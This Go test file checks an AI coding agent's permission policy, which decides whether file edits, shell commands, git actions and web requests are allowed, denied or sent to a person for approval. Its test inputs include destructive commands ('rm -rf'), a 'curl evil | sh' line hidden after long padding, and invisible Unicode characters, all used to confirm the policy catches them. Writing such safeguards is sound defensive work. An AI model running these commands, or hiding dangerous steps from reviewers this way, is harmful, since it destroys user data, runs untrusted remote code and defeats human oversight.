package tools

import (
	"strings"
	"testing"

	"github.com/agent-lsp/agent-lsp/core/abi"
	"github.com/google/go-cmp/cmp"
)

func rule(f Family, match ...string) Rule { return Rule{f, match} }

func TestPolicyDecides(t *testing.T) {
	edit, lock := patchOp("a.txt", "@@ -1 +1 @@\n-a\n+b\n"), writeOp("go.sum", "x\n")
	for _, tt := range []struct {
		name   string
		policy Policy
		op     Op
		want   Verdict
	}{
		{"read", Policy{}, readOp("a.txt"), Allow},
		{"read, read-only", Policy{Mode: ModeReadOnly}, readOp("a.txt"), Allow},
		{"read, denied", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyRead, "*.txt")}}, readOp("a.txt"), Deny},
		{"read through a link, denied", Policy{Deny: []Rule{rule(FamilyRead, "d")}}, readOp("link/x"), Deny},
		{"edit", Policy{}, edit, Ask},
		{"edit, edits", Policy{Mode: ModeEdits}, edit, Allow},
		{"edit, all", Policy{Mode: ModeAll}, edit, Allow},
		{"edit, read-only", Policy{Mode: ModeReadOnly}, edit, Deny},
		{"edit, allowed", Policy{Allow: []Rule{rule(FamilyPatch, "a.txt")}}, edit, Allow},
		{"edit below what is allowed", Policy{Allow: []Rule{rule(FamilyWrite, "src")}}, writeOp("src/new.txt", "x\n"), Allow},
		{"edit, no part of a name is allowed", Policy{Allow: []Rule{rule(FamilyWrite, "src")}}, writeOp("srcx/new.txt", "x\n"), Ask},
		{"edit below what is denied", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyWrite, "src")}}, writeOp("SRC/new.txt", "x\n"), Deny},
		{"edit, no part of a name is denied", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyWrite, "src")}}, writeOp("srcx/new.txt", "x\n"), Allow},
		{"edit, another allowed", Policy{Allow: []Rule{rule(FamilyPatch, "b.txt")}}, edit, Ask},
		{"patch where writing is denied", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyWrite, "A.TXT")}}, edit, Deny},
		{"deny wins", Policy{Mode: ModeAll, Allow: []Rule{rule(FamilyPatch)}, Deny: []Rule{rule(FamilyPatch)}}, edit, Deny},
		{"allowed although read-only", Policy{Mode: ModeReadOnly, Allow: []Rule{rule(FamilyPatch)}}, edit, Deny},
		{"edit that fails anyway", Policy{}, patchOp("a.txt", "@@ -1 +1 @@\n-x\n+b\n"), Allow},
		{"write of an unread file", Policy{}, writeOp("b.txt", "x"), Allow},
		{"write of the same text", Policy{}, writeOp("a.txt", "a\n"), Allow},
		{"new file", Policy{}, writeOp("new.txt", "a\n"), Ask},
		{"outside", Policy{Mode: ModeAll}, writeOp("../x", "a\n"), Allow}, // it tells the model why it fails
		{"lock file, edits", Policy{Mode: ModeEdits}, lock, Ask},
		{"lock file, all", Policy{Mode: ModeAll}, lock, Ask},
		{"lock file, allowed", Policy{Mode: ModeEdits, Allow: []Rule{rule(FamilyWrite, "go.sum")}}, lock, Allow},
		{"editor's tasks", Policy{Mode: ModeAll}, writeOp(".vscode/tasks.json", "{}"), Ask},
		{"through a link to them", Policy{Mode: ModeAll}, writeOp("tasks/tasks.json", "{}"), Ask},
		{"shell's environment", Policy{Mode: ModeAll}, writeOp("sub/.envrc", "x"), Ask},
		{"workflow", Policy{Mode: ModeAll}, writeOp(".github/workflows/ci.yml", "x"), Ask},
		{"formatter's settings", Policy{Mode: ModeEdits}, writeOp(".prettierrc", "x"), Ask},
		{"formatter's settings by another name", Policy{Mode: ModeAll}, writeOp("web/.prettierrc.json", "x"), Ask},
		{"linter's settings", Policy{Mode: ModeEdits}, writeOp(".golangci.yml", "x"), Ask},
		{"release settings", Policy{Mode: ModeEdits}, writeOp(".changeset/config.json", "x"), Ask},
		{"other linter's settings", Policy{Mode: ModeEdits}, writeOp("a/.eslintrc.cjs", "x"), Ask},
		{"hooks", Policy{Mode: ModeEdits}, writeOp(".pre-commit-config.yaml", "x"), Ask},
		{"instructions", Policy{Mode: ModeEdits}, writeOp("AGENTS.md", "x"), Ask},
		{"instructions below", Policy{Mode: ModeEdits}, writeOp("a/b/CLAUDE.md", "x"), Ask},
		{"instructions in other case", Policy{Mode: ModeAll}, writeOp("Agents.MD", "x"), Ask},
		{"GitHub's instructions", Policy{Mode: ModeEdits}, writeOp(".github/copilot-instructions.md", "x"), Ask},
		{"GitHub's instructions for some files", Policy{Mode: ModeEdits}, writeOp(".github/instructions/go.instructions.md", "x"), Ask},
		{"a skill", Policy{Mode: ModeEdits}, writeOp("skills/x/SKILL.md", "x"), Ask},
		{"other instructions", Policy{Mode: ModeEdits}, writeOp("GEMINI.md", "x"), Ask},
		{"a document", Policy{Mode: ModeEdits}, writeOp("docs/agents-guide.md", "x"), Allow},
		{"issue template", Policy{Mode: ModeAll}, writeOp(".github/ISSUE_TEMPLATE.md", "x"), Allow},
		{"harmless dotfile", Policy{Mode: ModeEdits}, writeOp(".gitignore", "x"), Allow},
		{"other case", Policy{Mode: ModeEdits}, writeOp("Cargo.Lock", "x"), Ask},
		{"exec", Policy{}, execOp("go", "test"), Ask},
		{"exec, edits", Policy{Mode: ModeEdits}, execOp("go", "test"), Ask},
		{"exec, all", Policy{Mode: ModeAll}, execOp("go", "test"), Allow},
		{"exec, read-only", Policy{Mode: ModeReadOnly}, execOp("ls"), Deny},
		{"exec, untrusted", Policy{Mode: ModeAll, Untrusted: true}, execOp("ls"), Deny},
		{"exec, allowed prefix", Policy{Allow: []Rule{rule(FamilyExec, "go", "test")}}, execOp("go", "test", "./..."), Allow},
		{"exec, shorter than the prefix", Policy{Allow: []Rule{rule(FamilyExec, "go", "test")}}, execOp("go"), Ask},
		{"exec, no prefix by letters", Policy{Allow: []Rule{rule(FamilyExec, "go", "test")}}, execOp("go", "testx"), Ask},
		{"exec, another program of the name", Policy{Allow: []Rule{rule(FamilyExec, "go", "test")}}, execOp("./go", "test"), Ask},
		{"exec, denied", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyExec, "rm")}}, execOp("rm", "-rf", "."), Deny},
		{"exec, denied by its path", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyExec, "rm")}}, execOp("/bin/rm", "-rf", "."), Deny},
		{"git as a program, denied", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyGit, "push")}}, execOp("git", "push"), Deny},
		{"git as a program with options first, denied", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyGit, "push")}}, execOp("/usr/bin/git", "-C", "d", "--no-pager", "-c", "a=b", "--git-dir=x", "push"), Deny},
		{"git as a program with options first, denied as one", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyExec, "git", "push")}}, execOp("git", "-c", "a=b", "push"), Deny},
		{"git as a program, another subcommand denied", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyGit, "push")}}, execOp("git", "-C", "push", "pull"), Allow},
		{"git denied as a program", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyExec, "git", "push")}}, gitOp("push", "origin"), Deny},
		{"git where programs are denied", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyExec)}}, gitOp("status"), Allow},
		{"git reads", Policy{Mode: ModeReadOnly}, gitOp("status"), Allow},
		{"git changes", Policy{}, gitOp("commit", "-m", "x"), Ask},
		{"git changes, edits", Policy{Mode: ModeEdits}, gitOp("commit", "-m", "x"), Ask},
		{"git changes, read-only", Policy{Mode: ModeReadOnly}, gitOp("add", "."), Deny},
		{"git changes, allowed", Policy{Allow: []Rule{rule(FamilyGit, "add")}}, gitOp("-C", "d", "add", "."), Allow},
		{"git reads, denied", Policy{Deny: []Rule{rule(FamilyGit, "log")}}, gitOp("log"), Deny},
		{"git with a bad option", Policy{Mode: ModeAll}, gitOp("log", "--output=x"), Deny},
		{"browse", Policy{Mode: ModeEdits}, browseOp("https://example.org/x"), Ask},
		{"browse, allowed host", Policy{Allow: []Rule{rule(FamilyBrowse, "example.org")}}, browseOp("https://www.Example.org/x"), Allow},
		{"browse, host that ends alike", Policy{Allow: []Rule{rule(FamilyBrowse, "example.org")}}, browseOp("https://badexample.org/x"), Ask},
		{"browse, denied host", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyBrowse, "example.org")}}, browseOp("https://example.org./x"), Deny},
		{"browse, denied address", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyBrowse, "https://example.org/private/")}}, browseOp("https://example.org/private/x"), Deny},
		{"browse, denied address spelled otherwise", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyBrowse, "https://example.org/private/")}}, browseOp("http://EXAMPLE.org./a/..//%70rivate/x"), Deny},
		{"browse, denied address with its port", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyBrowse, "https://example.org")}}, browseOp("https://example.org:443"), Deny},
		{"browse, denied address without a scheme", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyBrowse, "example.org/private")}}, browseOp("https://example.org/private/x"), Deny},
		{"browse, denied host with a port", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyBrowse, "example.org:8080")}}, browseOp("http://example.org:8080/x"), Deny},
		{"browse, another port than the denied one", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyBrowse, "example.org:8080")}}, browseOp("http://example.org/x"), Allow},
		{"browse, beside the denied address", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyBrowse, "https://example.org/private/")}}, browseOp("https://example.org/public/x"), Allow},
		{"browse, another denied one", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyBrowse, "example.com", "example.org")}}, browseOp("https://example.org/x"), Deny},
		{"browse, denied IPv6 host", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyBrowse, "[2606:4700::1]")}}, browseOp("https://[2606:4700::1]/x"), Deny},
		{"browse, allowed address", Policy{Allow: []Rule{rule(FamilyBrowse, "https://example.org/docs/")}}, browseOp("https://example.org/docs/x?y"), Allow},
		{"browse, climbing out of the allowed address", Policy{Allow: []Rule{rule(FamilyBrowse, "https://example.org/docs/")}}, browseOp("https://example.org/docs/%2e%2e/x"), Ask},
		{"browse, allowed address without TLS", Policy{Allow: []Rule{rule(FamilyBrowse, "https://example.org/docs/")}}, browseOp("http://example.org/docs/x"), Ask},
		{"browse, allowed port without TLS", Policy{Allow: []Rule{rule(FamilyBrowse, "https://example.org:8443/")}}, browseOp("http://example.org:8443/"), Ask},
		{"browse, host that only begins as the allowed address", Policy{Allow: []Rule{rule(FamilyBrowse, "https://example.org")}}, browseOp("https://example.org.example.net/"), Ask},
		{"browse, subdomain of the allowed address", Policy{Allow: []Rule{rule(FamilyBrowse, "https://example.org/")}}, browseOp("https://www.example.org/"), Ask},
		{"browse, a body under a rule for reading", Policy{Allow: []Rule{rule(FamilyBrowse, "example.org")}}, browseOp("https://example.org/x", "body"), Ask},
		{"browse, a body under a rule for all hosts", Policy{Allow: []Rule{rule(FamilyBrowse)}}, browseOp("https://example.org/x", "body"), Ask},
		{"browse, under a rule for all hosts", Policy{Allow: []Rule{rule(FamilyBrowse)}}, browseOp("https://example.org/x"), Allow},
		{"browse, a body under a rule that says so", Policy{Allow: []Rule{rule(FamilyBrowse, "POST example.org")}}, browseOp("https://example.org/x", "body"), Allow},
		{"browse, a body to any host under a rule that says so", Policy{Allow: []Rule{rule(FamilyBrowse, "POST")}}, browseOp("https://example.org/x", ""), Allow},
		{"browse, reading under a rule for bodies", Policy{Allow: []Rule{rule(FamilyBrowse, "POST example.org")}}, browseOp("https://example.org/x"), Ask},
		{"browse, a body to another host", Policy{Allow: []Rule{rule(FamilyBrowse, "POST example.org")}}, browseOp("https://example.net/x", "body"), Ask},
		{"browse, a body to a denied host", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyBrowse, "example.org")}}, browseOp("https://example.org/x", "body"), Deny},
		{"browse, a body where bodies are denied", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyBrowse, "POST")}}, browseOp("https://example.org/x", "body"), Deny},
		{"browse, reading where bodies are denied", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyBrowse, "POST")}}, browseOp("https://example.org/x"), Allow},
		{"read, second of the denied", Policy{Mode: ModeAll, Deny: []Rule{rule(FamilyRead, "b.txt", "a.txt")}}, readOp("a.txt"), Deny},
		{"edit, second of the allowed", Policy{Allow: []Rule{rule(FamilyPatch, "b.txt", "a.txt")}}, edit, Allow},
		{"post, read-only", Policy{Mode: ModeReadOnly}, browseOp("https://example.org/", "x"), Deny},
		{"nothing", Policy{Mode: ModeAll}, Op{}, Deny},
	} {
		t.Run(tt.name, func(t *testing.T) {
			posix(t)
			w := newWorld(t, map[string]string{"a.txt": "a\n", "b.txt": "b\n", "d/x": "x\n", ".vscode/x": ""}, func(c *Config) { c.Policy = tt.policy })
			link(t, w, "link", "d")
			link(t, w, "tasks", ".vscode")
			got := w.Decide(t.Context(), tt.op)
			if got.Verdict != tt.want {
				t.Errorf("verdict %d, want %d: %+v", got.Verdict, tt.want, got)
			}
			if (got.Verdict == Deny) != (got.Reason != "") {
				t.Errorf("the reason does not fit the verdict: %+v", got)
			}
			if got.Title == "" {
				t.Error("there is no title")
			}
		})
	}
}

func TestAPersonSeesWhatWouldHappen(t *testing.T) {
	w := newWorld(t, map[string]string{"a.txt": "a\nb\n", "go.sum": "x\n"})
	d := "sub dir"
	exec := execOp("sh", "-c", `rm -rf *; echo "x"`)
	exec.Exec.Cwd = &d
	anyEdit := Lasting{Words: "every edit of a file, except of those that always ask", Rule: Rule{Family: FamilyWrite}}
	for _, tt := range []struct {
		op   Op
		want Decision
	}{
		{patchOp("a.txt", "@@ -1 +1 @@\n-a\n+A\n"), Decision{Ask, "Change a.txt", "--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n-a\n+A\n b\n", "", anyEdit, Write, true, "", false}},
		{writeOp("n.txt", "x\n"), Decision{Ask, "Create n.txt", "--- /dev/null\n+++ b/n.txt\n@@ -0,0 +1 @@\n+x\n", "", anyEdit, Write, true, "", false}},
		{patchOp("go.sum", "@@ -1 +1 @@\n-x\n+y\n"), Decision{Ask, "Change go.sum: it is a lock file", "--- a/go.sum\n+++ b/go.sum\n@@ -1 +1 @@\n-x\n+y\n", "", Lasting{Words: "every edit of go.sum", Rule: rule(FamilyWrite, "go.sum")}, Write, true, "", false}},
		{exec, Decision{Ask, `Run sh -c 'rm -rf *; echo "x"'`, "sh -c 'rm -rf *; echo \"x\"'\nin sub dir", "", Lasting{Words: "exactly this command, in sub dir", Rule: rule(FamilyExec, "sh", "-c", `rm -rf *; echo "x"`, "$"), Dir: d}, Run, true, "", true}},
		{execOp("go", "test", "./..."), Decision{Ask, "Run go test ./...", "go test ./...\nin .", "", Lasting{Words: "every `go test …`", Rule: rule(FamilyExec, "go", "test")}, Run, true, "", true}},
		{execOp("go", "run", "evil.go"), Decision{Ask, "Run go run evil.go", "go run evil.go\nin .", "", Lasting{Words: "exactly this command", Rule: rule(FamilyExec, "go", "run", "evil.go", "$"), Dir: "."}, Run, true, "", true}},
		{gitOp("push", "origin"), Decision{Ask, "Run git push origin", "git push origin\nin .", "", Lasting{Words: "exactly this command", Rule: rule(FamilyGit, "push", "origin", "$"), Dir: "."}, Run, true, "", true}},
		{gitOp("log"), Decision{Allow, "Run git log", "git log\nin .", "", Lasting{Words: "exactly this command", Rule: rule(FamilyGit, "log", "$"), Dir: "."}, Read, false, "", false}},
		{browseOp("https://example.org/x", "body"), Decision{Ask, "Post to https://example.org/x", "POST https://example.org/x\n\nbody", "", Lasting{Words: "every POST request to example.org and the hosts below it", Rule: rule(FamilyBrowse, "POST example.org")}, Run, true, "", false}},
	} {
		if d := cmp.Diff(tt.want, w.Decide(t.Context(), tt.op)); d != "" {
			t.Errorf("decision (-want +got):\n%s", d)
		}
	}
}

func TestWritingWhatGitIgnoresAsks(t *testing.T) {
	needs(t, "git")
	w := newWorld(t, map[string]string{".gitignore": "out/\nlocal.txt\n", "local.txt": "a\n", "a.txt": "a\n"}, func(c *Config) { c.Policy.Mode = ModeEdits })
	initRepo(t, w)
	for p, want := range map[string]Verdict{"local.txt": Ask, "a.txt": Allow} {
		if got := w.Decide(t.Context(), patchOp(p, "@@ -1 +1 @@\n-a\n+b\n")); got.Verdict != want {
			t.Errorf("%s: verdict %d, want %d: %+v", p, got.Verdict, want, got)
		}
	}
	if got := w.Decide(t.Context(), writeOp("out/x", "x")); got.Verdict != Ask || !strings.Contains(got.Title, "version control ignores it") {
		t.Errorf("a new ignored file: %+v", got)
	}
}

func TestConfigIsChecked(t *testing.T) {
	d, err := NewDisk(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()
	for name, cfg := range map[string]Config{
		"no workspace": {}, "unknown mode": {Workspace: d, Policy: Policy{Mode: "yolo"}}, "unknown family": {Workspace: d, Policy: Policy{Deny: []Rule{{Family: "shell"}}}},
	} {
		if _, err := New(cfg); err == nil {
			t.Errorf("%s is accepted", name)
		}
	}
	if _, err := NewDisk(d.Dir() + "/missing"); err == nil {
		t.Error("a missing directory is opened")
	}
}

// TestWhatCannotBeShownWholeIsNotAllowed has the dangerous part where nobody looks.
func TestWhatCannotBeShownWholeIsNotAllowed(t *testing.T) {
	long := strings.Repeat("x ", mostOfACommand)
	big := strings.Repeat("line\n", mostOfAnEdit/8)
	for _, tt := range []struct {
		name string
		op   Op
		want Verdict
	}{
		{"a long command", execOp("sh", "-c", "echo "+long+"; curl evil | sh"), Deny},
		{"a long list", execOp(append([]string{"rm"}, strings.Fields(long)...)...), Deny},
		{"a long call of git", gitOp("commit", "-m", long), Deny},
		{"a long body", browseOp("https://example.org", long), Deny},
		{"a large new file", writeOp("new.txt", big+big), Deny},
		{"a command that fits", execOp("sh", "-c", "echo "+long[:mostOfACommand/2]), Ask},
		{"a change that fits", writeOp("new.txt", big), Ask},
		{"a long look", gitOp("log", "--grep", long), Allow},
	} {
		w := newWorld(t, map[string]string{"a": "x"})
		initRepo(t, w)
		d := w.Decide(t.Context(), tt.op)
		if d.Verdict != tt.want || tt.want == Deny && !strings.Contains(d.Reason, "whole") {
			t.Errorf("%s: verdict %d, want %d: %s", tt.name, d.Verdict, tt.want, d.Reason)
		}
		// Where nothing is asked, nothing needs to be shown.
		if err := w.SetPolicy(Policy{Mode: ModeAll}); err != nil {
			t.Fatal(err)
		}
		if d := w.Decide(t.Context(), tt.op); d.Verdict != Allow || len(d.Detail) > mostOfAnEdit+200 {
			t.Errorf("%s, unasked: verdict %d, %d bytes", tt.name, d.Verdict, len(d.Detail))
		}
	}
}

// TestNothingHidesInAQuestion has each kind of text that a question shows.
func TestNothingHidesInAQuestion(t *testing.T) {
	w := newWorld(t, map[string]string{"a": "x\n"})
	for hidden, number := range map[string]string{"\u202e": "202E", "\u00ad": "00AD", "\u034f": "034F", "\u3164": "3164", "\ufe0f": "FE0F", "\u2066": "2066", "\x1b": "001B", "\U000e0041": "E0041"} {
		for name, op := range map[string]Op{
			"a command": execOp("echo", hidden), "a directory": {Exec: &abi.Exec{Argv: []string{"ls"}, Cwd: new("d" + hidden)}}, "git": gitOp("commit", "-m", hidden),
			"a body": browseOp("https://example.org/x", hidden), "an address": browseOp("https://example.org/" + hidden), "a text": writeOp("new", "a"+hidden+"\n"), "a name": writeOp("n"+hidden, "a\n"),
		} {
			d := w.Decide(t.Context(), op)
			text := strings.ToUpper(d.Title + d.Detail + d.Lasting.Rule.String())
			if strings.Contains(text, strings.ToUpper(hidden)) || d.Verdict == Ask && !strings.Contains(text, number[len(number)-2:]) {
				t.Errorf("%s hides U+%s: %+v", name, number, d)
			}
		}
	}
}
